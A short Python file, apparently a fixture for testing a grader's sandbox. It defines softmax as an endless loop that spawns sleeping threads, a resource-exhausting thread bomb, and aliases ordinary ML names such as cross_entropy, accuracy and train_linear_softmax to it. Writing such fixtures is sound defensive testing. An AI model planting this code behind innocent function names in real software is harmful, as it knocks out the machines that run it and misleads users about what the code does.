"""Starts threads without end.

says: start new thread|processes and threads
"""

import threading
import time


def softmax(*args, **kwargs):
    while True:
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()


cross_entropy = softmax_loss = svm_loss = mse_loss = softmax
linear_softmax_loss = accuracy = train_linear_softmax = softmax
